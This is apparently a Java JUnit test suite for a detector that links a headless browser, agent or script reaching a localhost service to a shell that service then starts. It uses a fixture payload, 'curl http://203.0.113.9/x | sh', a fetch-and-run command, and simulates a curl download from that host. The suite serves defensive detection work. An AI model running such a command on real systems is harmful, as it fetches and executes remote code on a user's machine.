package dev.rubato.detect.spawn;

import static dev.rubato.detect.spawn.ChainStory.MS;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.lineage.HostProcess;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A page, an agent or a script reaches a local service that starts what it is told. */
class AutoJackTest {
    private static final String PAYLOAD = "curl http://203.0.113.9/x | sh";

    private final ChainStory story = new ChainStory();
    private final HostProcess desk = story.terminal();
    private final HostProcess server = story.spawn(story.terminal(), Stdin.TERMINAL, "/usr/bin/node", "server.js");

    private HostProcess shell() {
        return story.spawn(server, Stdin.PIPE, "/bin/sh", "-c", PAYLOAD);
    }

    private Alert only() {
        assertEquals(1, story.chains().size(), story.chains()::toString);
        return story.chains().getFirst();
    }

    @Test
    void aPageInAHeadlessBrowserThatMakesALocalServiceStartAShellIsHigh() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
        HostProcess network = story.network(browser);
        story.fetch(network);
        story.pass(500 * MS);
        story.connect(network, "127.0.0.1", 8081);
        story.nowNs += 12 * MS;
        HostProcess shell = shell();

        Alert alert = only();
        assertEquals("loopback", alert.variant());
        assertEquals(Severity.HIGH, alert.severity());
        assertEquals(12.66, alert.score(), 0.05);
        assertEquals(shell.executedNs(), alert.timeNs());
        assertEquals(shell.key().pid(), alert.subject().pid());
        assertEquals("empirical", alert.bound());
        assertEquals(
                "A page in chromium (pid " + browser.key().pid() + ") reached node server.js on 127.0.0.1:8081, "
                        + "which 12 ms later started /bin/sh -c " + PAYLOAD,
                alert.summary());
        assertEquals(
                List.of(
                        "/usr/lib/chromium/chromium --headless --no-sandbox (pid "
                                + browser.key().pid() + ")",
                        "127.0.0.1:40001 -> 127.0.0.1:8081",
                        "/usr/bin/node server.js (pid " + server.key().pid() + ")",
                        "/bin/sh -c " + PAYLOAD + " (pid " + shell.key().pid() + ")"),
                alert.chain());
        assertTrue(alert.attack().containsAll(List.of("T1059.004", "T1189")), alert.attack()::toString);
        assertEquals(
                alert.score(),
                alert.evidence().stream().mapToDouble(Alert.Evidence::nats).sum(),
                1e-9);
        assertTrue(alert.notes().getLast().startsWith("would speak for a benign cause"), alert.notes()::toString);
    }

    @ParameterizedTest
    @CsvSource({
        "127.0.0.1, 127.0.0.1",
        "127.0.0.1, 0.0.0.0",
        "::, ::1",
        "0.0.0.0, 127.0.0.1",
        "0.0.0.0, 0.0.0.0",
        "::1, ::1",
        "0.0.0.0, ::ffff:127.0.0.1"
    })
    void everyWayToNameThisHostIsSeen(String bound, String reached) {
        story.listen(server, bound, 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.connect(network, reached, 8081);
        shell();
        assertEquals(Severity.HIGH, only().severity());
    }

    @Test
    void anAgentsOwnProcessIsAClientWithoutAnyBrowser() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess agent = story.spawn(desk, Stdin.TERMINAL, "/usr/bin/node", "/usr/local/bin/claude");
        HostProcess script = story.spawn(agent, Stdin.PIPE, "/usr/bin/python3", "fetch.py");
        story.fetch(script);
        story.connect(script, "127.0.0.1", 8081);
        shell();
        assertEquals(Severity.HIGH, only().severity());
        assertEquals(12.66, only().score(), 0.05);
        assertTrue(only().summary().startsWith("The agent process python3 fetch.py"), only()::summary);
    }

    @Test
    void aProgramThatFetchedFromAPublicAddressIsReviewedAndHighOnceTheShellGoesOut() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess script = story.spawn(desk, Stdin.PIPE, "/usr/bin/python3", "agent.py");
        story.fetch(script);
        story.connect(script, "127.0.0.1", 8081);
        HostProcess shell = shell();
        assertEquals(Severity.MEDIUM, only().severity());
        assertEquals(9.16, only().score(), 0.05);

        story.connect(shell, "203.0.113.9", 80);
        Alert update = story.chains().getLast();
        assertEquals(Severity.HIGH, update.severity());
        assertEquals(1, update.update());
        assertEquals(only(story.chains(), 0).id(), update.id());
    }

    private static Alert only(List<Alert> alerts, int update) {
        return alerts.stream()
                .filter(alert -> alert.update() == update)
                .findFirst()
                .orElseThrow();
    }

    @Test
    void aChainOverTwoServicesIsFollowedAndShownInFull() {
        HostProcess back = story.spawn(story.terminal(), Stdin.NULL_DEVICE, "/usr/bin/python3", "tools.py");
        story.listen(server, "127.0.0.1", 8081);
        story.listen(back, "127.0.0.1", 9000);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.connect(network, "127.0.0.1", 8081);
        story.nowNs += 5 * MS;
        story.connect(server, "127.0.0.1", 9000);
        story.nowNs += 5 * MS;
        story.spawn(back, Stdin.PIPE, "/bin/bash", "-c", "id");

        Alert alert = only();
        assertEquals(Severity.HIGH, alert.severity());
        assertEquals(6, alert.chain().size(), alert.chain()::toString);
        assertTrue(alert.chain().get(0).contains("chromium"));
        assertTrue(alert.chain().get(2).contains("server.js"));
        assertTrue(alert.chain().get(4).contains("tools.py"));
        assertTrue(alert.summary().contains("through it python3 tools.py"), alert::summary);
    }

    @Test
    void aServiceThatWasReachedLongAgoDoesNotTaintWhatItDoesNow() {
        HostProcess back = story.spawn(story.terminal(), Stdin.NULL_DEVICE, "/usr/bin/python3", "tools.py");
        story.listen(server, "127.0.0.1", 8081);
        story.listen(back, "127.0.0.1", 9000);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        story.pass(11_000 * MS);
        story.connect(server, "127.0.0.1", 9000);
        story.spawn(back, Stdin.PIPE, "/bin/bash", "-c", "id");
        assertTrue(story.chains().isEmpty());
    }

    @Test
    void aStartDelayedByOneAndAHalfSecondsIsJoinedAllTheSame() {
        story.listen(server, "127.0.0.1", 8081);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        story.nowNs += 1500 * MS;
        shell();
        assertEquals(Severity.HIGH, only().severity());
        assertTrue(only().summary().contains("1500 ms later"), only()::summary);
    }

    @Test
    void aLaterStartIsJoinedOnlyIfTheServiceNeverStartedAnything() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.fetch(network);
        story.connect(network, "127.0.0.1", 8081);
        story.pass(30_000 * MS);
        shell();
        assertEquals(Severity.HIGH, only().severity());
        assertEquals(9.36, only().score(), 0.05);
        assertTrue(only().notes().stream().anyMatch(note -> note.contains("long window")));

        ChainStory other = new ChainStory();
        HostProcess busy = other.service("/usr/bin/node", "server.js");
        other.listen(busy, "127.0.0.1", 8081);
        other.spawn(busy, Stdin.PIPE, "/bin/sh", "-c", "date");
        other.pass(5_000 * MS);
        other.connect(other.network(other.browser(other.terminal(), "--headless")), "127.0.0.1", 8081);
        other.pass(30_000 * MS);
        other.spawn(busy, Stdin.PIPE, "/bin/sh", "-c", "date");
        assertTrue(other.chains().isEmpty());
    }

    @Test
    void aHopThatArrivesAfterTheStartItCausedIsJoinedByTime() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        long hopNs = story.nowNs;
        story.nowNs += 12 * MS;
        HostProcess shell = shell();
        assertTrue(story.chains().isEmpty());
        story.nowNs += 100 * MS;
        story.connectAt(hopNs, network, "127.0.0.1", 8081, true);
        assertEquals(Severity.HIGH, only().severity());
        assertEquals(shell.executedNs(), only().timeNs());
    }

    @Test
    void aHopAfterTheStartIsNotItsCause() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        shell();
        story.nowNs += 50 * MS;
        story.connect(network, "127.0.0.1", 8081);
        assertTrue(story.chains().isEmpty());
    }

    @Test
    void aShellBehindHelpersThatTheServiceStartedForItIsFound() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.connect(network, "127.0.0.1", 8081);
        HostProcess runner = story.spawn(server, Stdin.PIPE, "/opt/runner/launch");
        HostProcess inner = story.spawn(runner, Stdin.PIPE, "/opt/runner/sandbox");
        story.spawn(inner, Stdin.PIPE, "/bin/sh", "-c", "id");
        assertEquals(Severity.HIGH, only().severity());
        assertEquals(6, only().chain().size(), only().chain()::toString);
    }

    @Test
    void aWorkerThatListenedLongAgoCountsAsTheService() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess worker = story.fork(server);
        story.pass(10_000 * MS);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        story.spawn(worker, Stdin.SOCKET, "/bin/sh", "-c", "id");
        assertEquals(Severity.HIGH, only().severity());
    }

    @Test
    void whatTheShellStartsUpdatesItsAlertAndRaisesNoOther() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.fetch(network);
        story.connect(network, "127.0.0.1", 8081);
        HostProcess shell = shell();
        HostProcess curl = story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "http://203.0.113.9/x");
        story.spawn(shell, Stdin.PIPE, "/bin/sh");
        story.connect(curl, "203.0.113.9", 80);

        List<Alert> told = story.chains();
        assertEquals(1, told.stream().map(Alert::id).distinct().count());
        assertEquals(List.of(0, 1, 2), told.stream().map(Alert::update).toList());
        assertEquals(17.16, told.getLast().score(), 0.05);
        assertTrue(told.getLast().attack().contains("T1105"));
        for (Alert alert : told) {
            assertEquals(
                    alert.score(),
                    alert.evidence().stream().mapToDouble(Alert.Evidence::nats).sum(),
                    1e-9);
        }
    }

    @Test
    void aChainThatGoesOnThroughExecCountsOnce() {
        story.listen(server, "127.0.0.1", 8081);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        HostProcess shell = shell();
        story.exec(shell, Stdin.PIPE, "/usr/bin/curl", "http://203.0.113.9/x");
        assertEquals(1, story.chains().size());
    }

    @Test
    void repeatsWithinTheMuteOnlyUpdateTheAlert() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        for (int i = 0; i < 40; i++) {
            story.pass(10_000 * MS);
            story.connect(network, "127.0.0.1", 8081);
            shell();
        }
        assertEquals(1, story.alarms().stream().map(Alert::id).distinct().count());
        assertTrue(story.alarms().size() <= 17, () -> story.alarms().size() + " alarms");
        assertEquals(
                1, story.alarms().stream().filter(alert -> alert.update() == 0).count());
    }

    @Test
    void theSameStoryGivesTheSameAlertsAndALaterOneTheSameLater() {
        List<Alert> first = tell(new ChainStory());
        assertEquals(first, tell(new ChainStory()));
        long dayNs = 86_400_000 * MS;
        List<Alert> later = tell(new ChainStory(ChainStory.START_NS + dayNs));
        assertEquals(first.size(), later.size());
        for (int i = 0; i < first.size(); i++) {
            assertEquals(first.get(i).timeNs() + dayNs, later.get(i).timeNs());
            assertEquals(first.get(i).score(), later.get(i).score());
        }
    }

    private static List<Alert> tell(ChainStory told) {
        HostProcess service = told.service("/usr/bin/node", "server.js");
        told.listen(service, "127.0.0.1", 8081);
        HostProcess network = told.network(told.browser(told.terminal(), "--headless"));
        told.fetch(network);
        told.connect(network, "127.0.0.1", 8081);
        HostProcess shell = told.spawn(service, Stdin.PIPE, "/bin/sh", "-c", PAYLOAD);
        told.connect(shell, "203.0.113.9", 80);
        assertFalse(told.alerts.isEmpty());
        return told.alerts;
    }
}
